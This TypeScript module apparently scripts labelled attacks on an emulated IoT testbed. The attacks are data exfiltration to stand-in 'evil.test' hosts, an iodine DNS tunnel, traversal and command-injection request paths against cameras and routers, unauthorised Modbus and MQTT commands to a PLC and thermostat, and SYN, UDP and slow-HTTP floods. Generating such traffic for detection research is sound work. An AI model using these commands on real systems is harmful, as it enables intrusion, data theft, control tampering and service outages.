// What intruders do once they are in: steal, command machines, exploit, flood.

import { randomBytes } from 'node:crypto'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'

import { deviceNamed, gateway } from '../devices.ts'
import { quietWeb } from '../label.ts'
import type { Attack } from '../label.ts'
import type { Network } from '../network.ts'

const at = (name: string): string => deviceNamed(name).ipv4
const evil = '203.0.113.66'
const victim = '203.0.113.99'

const misuse: Attack[] = [
  {
    id: 'mud-violation',
    class: 'policy-violation',
    technique: 'T1020',
    what: 'the door station sends pictures in clear to a server that its MUD file does not name',
    source: 'door',
    destination: '203.0.113.20',
    command: async (network) => {
      const file = join(network.directory, 'picture')
      writeFileSync(file, randomBytes(6000))
      for (let count = 0; count < 3; count++) {
        const upload = ['-A', 'A8105-E/10.12', '--data-binary', `@${file}`]
        await network.run('door', [...quietWeb, ...upload, 'http://ads.tvcloud.test/upload'])
        await sleep(2000)
      }
      return 0
    },
  },
]

const theft: Attack[] = [
  {
    id: 'dns-tunnel',
    class: 'exfiltration',
    technique: 'T1071.004',
    what: 'iodine: a tunnel through the resolver of the gateway, with data in it',
    source: 'tv',
    destination: gateway.ipv4,
    command: dnsTunnel,
  },
  {
    id: 'upload',
    class: 'exfiltration',
    technique: 'T1041',
    what: '250 kB from the camera to the command-and-control server over TLS',
    source: 'camera',
    destination: evil,
    command: (network) => {
      const file = join(network.directory, 'upload')
      writeFileSync(file, randomBytes(250_000))
      return network.run('camera', [...quietWeb, '-k', '-T', file, 'https://cnc.evil.test/up'])
    },
  },
]

async function dnsTunnel(network: Network): Promise<number> {
  const key = ['-P', 'tunnel', '-f']
  const far = network.start('outside', [
    ...['iodined', ...key, '-c', '-l', evil, '-d', 'tun8'],
    ...['10.200.0.1/27', 't.evil.test'],
  ])
  await sleep(1000)
  const way = ['-d', 'tun7', gateway.ipv4, 't.evil.test']
  const near = network.start('tv', ['iodine', ...key, '-r', ...way])
  await sleep(8000)
  await network.run('tv', ['ping', '-c', '8', '-i', '0.4', '-s', '300', '10.200.0.1'])
  const data = join(network.directory, 'tv', 'data')
  writeFileSync(data, randomBytes(8000).toString('base64'))
  const upload = [...quietWeb, '-d', `@${data}`, 'http://10.200.0.1:8080/']
  const code = await network.run('tv', upload)
  await network.stop(near)
  await network.stop(far)
  return code
}

const exploitPaths = [
  '/cgi-bin/../../../../etc/passwd',
  '/shell?cat+/etc/passwd',
  '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id',
  '/GponForm/diag_Form?images/',
  '/language/Swedish${IFS}&&id>r',
  '/board.cgi?cmd=id',
]

const commanding: Attack[] = [
  {
    id: 'modbus-write',
    class: 'unauthorised-command',
    technique: 'T0855',
    what: 'writes four coils and four registers of the PLC',
    source: 'mallory',
    destination: 'plc',
    command: async (network) => {
      for (const register of ['1', '2', '3', '20']) {
        const to = ['-m', 'tcp', '-a', '1', '-r', register, '-1', at('plc')]
        await network.run('mallory', ['mbpoll', '-t', '0', ...to, '1'])
        await network.run('mallory', ['mbpoll', '-t', '4', ...to, '9999'])
      }
      return 0
    },
  },
  {
    id: 'mqtt-command',
    class: 'unauthorised-command',
    technique: 'T0855',
    what: 'publishes five set points to the thermostat',
    source: 'mallory',
    destination: 'hub',
    command: async (network) => {
      const words = ['-h', at('hub'), '-i', 'evil', '-t', 'home/thermostat/set', '-m', '35']
      for (let count = 0; count < 5; count++) {
        await network.run('mallory', ['mosquitto_pub', ...words])
      }
      return 0
    },
  },
  {
    id: 'http-exploit',
    class: 'exploit',
    technique: 'T1190',
    what: 'requests with which known weaknesses of cameras and routers are tried',
    source: 'mallory',
    destination: 'camera',
    command: async (network) => {
      const head = ['--path-as-is', '-A', 'Hello, World']
      for (const path of exploitPaths) {
        await network.run('mallory', [...quietWeb, ...head, `http://${at('camera')}${path}`])
      }
      return 0
    },
  },
]

const floods: Attack[] = [
  {
    id: 'mqtt-flood',
    class: 'denial-of-service',
    technique: 'T0814',
    what: '3000 messages in a row',
    source: 'mallory',
    destination: 'hub',
    command: [
      ...['sh', '-c'],
      `yes x | head -3000 | mosquitto_pub -h ${at('hub')} -i flood -t home/flood -l`,
    ],
  },
  {
    id: 'syn-flood',
    class: 'denial-of-service',
    technique: 'T1498.001',
    what: '2500 SYN from the bulb to one port outside',
    source: 'bulb',
    destination: victim,
    command: ['hping3', '-q', '-S', '-p', '80', '-i', 'u1000', '-c', '2500', victim],
  },
  {
    id: 'udp-flood',
    class: 'denial-of-service',
    technique: 'T1498.001',
    what: '1000 datagrams of 256 bytes from the bulb to one port outside',
    source: 'bulb',
    destination: victim,
    command: ['hping3', '-q', '-2', '-p', '53', '-d', '256', '-i', 'u1000', '-c', '1000', victim],
  },
  {
    id: 'slow-http',
    class: 'denial-of-service',
    technique: 'T1499.002',
    what: '40 connections to the camera whose heads never end',
    source: 'mallory',
    destination: 'camera',
    command: [
      ...['slowhttptest', '-c', '40', '-H', '-i', '4', '-r', '20', '-l', '12'],
      ...['-u', `http://${at('camera')}/`],
    ],
  },
]

export const damage: Attack[] = [...misuse, ...theft, ...commanding, ...floods]
